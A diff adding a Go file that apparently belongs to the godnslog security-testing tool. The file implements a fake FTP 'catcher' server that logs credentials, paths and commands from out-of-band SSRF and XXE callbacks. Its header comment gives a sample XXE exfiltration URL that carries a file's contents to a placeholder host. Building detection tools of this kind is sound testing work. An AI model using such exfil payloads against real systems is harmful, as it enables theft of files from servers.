@@ -0,0 +1,245 @@
+package server
+
+import (
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net"
+	"net/textproto"
+	"path"
+	"strings"
+	"time"
+
+	"github.com/chennqqi/godnslog/cache"
+	"github.com/chennqqi/godnslog/models"
+)
+
+/*
+FTP catcher, eg. SSRF and XXE ftp:// exfil
+	ftp://token.userXXXX.example.com/token.userXXXX/%file;
+the session is logged when connection closed, files are always empty
+*/
+
+const (
+	MAX_FTP_COMMANDS     = 256
+	MAX_FTP_COMMAND_SIZE = 1024
+)
+
+type FtpServerConfig struct {
+	Domain  string
+	IP      string   //public IPv4 for PASV
+	Listen  []string //eg. :21
+	Timeout time.Duration
+}
+
+type FtpServer struct {
+	FtpServerConfig
+	tcpServer
+}
+
+func NewFtpServer(cfg *FtpServerConfig, store *cache.Cache) (*FtpServer, error) {
+	s := &FtpServer{
+		FtpServerConfig: *cfg,
+	}
+	s.name = "ftp"
+	s.store = store
+	s.Domain = strings.TrimSuffix(s.Domain, ".")
+	return s, nil
+}
+
+func (s *FtpServer) Run() {
+	s.run(s.Listen, s.handle)
+}
+
+func (s *FtpServer) Shutdown() {
+	s.shutdown()
+}
+
+type ftpSession struct {
+	ip       string
+	host     string
+	user     string
+	password string
+	cwd      string
+	paths    []string
+	commands []string
+
+	data net.Listener //passive data listener
+}
+
+func (sess *ftpSession) path(arg string) string {
+	p := path.Join(sess.cwd, arg)
+	if strings.HasPrefix(arg, "/") {
+		p = path.Clean(arg)
+	}
+	sess.paths = append(sess.paths, p)
+	return p
+}
+
+func (s *FtpServer) handle(conn net.Conn) {
+	ip, _, _ := net.SplitHostPort(conn.RemoteAddr().String())
+	tp := textproto.NewConn(conn)
+
+	sess := &ftpSession{ip: ip, cwd: "/"}
+	reply := func(format string, args ...interface{}) bool {
+		conn.SetWriteDeadline(time.Now().Add(s.Timeout))
+		return tp.PrintfLine(format, args...) == nil
+	}
+	defer func() {
+		if sess.data != nil {
+			sess.data.Close()
+		}
+		if len(sess.commands) > 0 {
+			s.logSession(sess)
+		}
+	}()
+
+	if !reply("220 %v FTP ready", s.Domain) {
+		return
+	}
+	for len(sess.commands) < MAX_FTP_COMMANDS {
+		conn.SetReadDeadline(time.Now().Add(s.Timeout))
+		line, err := tp.ReadLine()
+		if err != nil {
+			return
+		}
+		if len(line) > MAX_FTP_COMMAND_SIZE {
+			line = line[:MAX_FTP_COMMAND_SIZE]
+		}
+		sess.commands = append(sess.commands, line)
+		cmd, arg := line, ""
+		if idx := strings.IndexByte(line, ' '); idx > 0 {
+			cmd, arg = line[:idx], line[idx+1:]
+		}
+
+		switch strings.ToUpper(cmd) {
+		case "HOST":
+			sess.host = arg
+			reply("220 OK")
+		case "USER":
+			sess.user = arg
+			reply("331 Password required")
+		case "PASS":
+			sess.password = arg
+			reply("230 Logged in")
+		case "SYST":
+			reply("215 UNIX Type: L8")
+		case "FEAT":
+			reply("211-Features:\r\n EPSV\r\n PASV\r\n211 End")
+		case "PWD", "XPWD":
+			reply(`257 "%v"`, sess.cwd)
+		case "CWD", "XCWD":
+			sess.cwd = sess.path(arg)
+			reply("250 OK")
+		case "CDUP", "XCUP":
+			sess.cwd = path.Dir(sess.cwd)
+			reply("250 OK")
+		case "TYPE", "MODE", "STRU", "OPTS", "PORT", "EPRT":
+			reply("200 OK")
+		case "PASV", "EPSV":
+			port, err := s.passive(sess)
+			if err != nil {
+				reply("425 Can't open data connection")
+			} else if strings.ToUpper(cmd) == "EPSV" {
+				reply("229 Entering Extended Passive Mode (|||%v|)", port)
+			} else {
+				ip := net.ParseIP(s.IP).To4()
+				reply("227 Entering Passive Mode (%v,%v,%v,%v,%v,%v)", ip[0], ip[1], ip[2], ip[3], port>>8, port&0xff)
+			}
+		case "RETR", "LIST", "NLST", "MLSD", "STOR", "APPE":
+			if arg != "" && !strings.HasPrefix(arg, "-") {
+				sess.path(arg)
+			}
+			s.transfer(sess, reply, strings.ToUpper(cmd))
+		case "SIZE", "MDTM":
+			sess.path(arg)
+			reply("550 No such file")
+		case "DELE", "RMD", "MKD", "XMKD", "XRMD", "RNFR", "RNTO":
+			sess.path(arg)
+			reply("250 OK")
+		case "NOOP":
+			reply("200 OK")
+		case "QUIT":
+			reply("221 Bye")
+			return
+		default:
+			reply("502 command not implemented")
+		}
+	}
+}
+
+// passive open data listener of session
+func (s *FtpServer) passive(sess *ftpSession) (int, error) {
+	if net.ParseIP(s.IP).To4() == nil {
+		return 0, fmt.Errorf("no public IPv4")
+	}
+	if sess.data != nil {
+		sess.data.Close()
+		sess.data = nil
+	}
+	l, err := net.Listen("tcp", ":0")
+	if err != nil {
+		return 0, err
+	}
+	sess.data = l
+	return l.Addr().(*net.TCPAddr).Port, nil
+}
+
+// transfer send empty file or listing, discard uploaded data
+func (s *FtpServer) transfer(sess *ftpSession, reply func(string, ...interface{}) bool, cmd string) {
+	if sess.data == nil {
+		reply("425 Use PASV first")
+		return
+	}
+	l := sess.data
+	sess.data = nil
+	defer l.Close()
+
+	reply("150 Opening data connection")
+	l.(*net.TCPListener).SetDeadline(time.Now().Add(s.Timeout))
+	dc, err := l.Accept()
+	if err != nil {
+		reply("425 Can't open data connection")
+		return
+	}
+	if cmd == "STOR" || cmd == "APPE" {
+		dc.SetReadDeadline(time.Now().Add(s.Timeout))
+		n, _ := io.Copy(ioutil.Discard, dc)
+		sess.commands = append(sess.commands, fmt.Sprintf("#%v bytes received", n))
+	}
+	dc.Close()
+	reply("226 Transfer complete")
+}
+
+func (s *FtpServer) logSession(sess *ftpSession) {
+	rcd := &FtpRecord{
+		Ip:       sess.ip,
+		User:     sess.user,
+		Password: sess.password,
+		Paths:    sess.paths,
+		Commands: strings.Join(sess.commands, "\n"),
+		Ctime:    time.Now(),
+	}
+
+	//HOST command first, then requested paths and user
+	var user *models.TblUser
+	if sess.host != "" {
+		prefix, shortId, _ := parseUserDomain(s.store, strings.ToLower(sess.host), s.Domain)
+		if v, exist := s.store.Get(shortId + ".suser"); exist {
+			user = v.(*models.TblUser)
+			rcd.Var = prefix
+		}
+	}
+	for _, str := range append(sess.paths, sess.user, sess.password) {
+		if user != nil {
+			break
+		}
+		rcd.Var, user = s.lookupToken(str)
+	}
+	if user != nil {
+		rcd.Uid = user.Id
+	} else {
+		rcd.Var = ""
+	}
+	s.log(rcd)
+}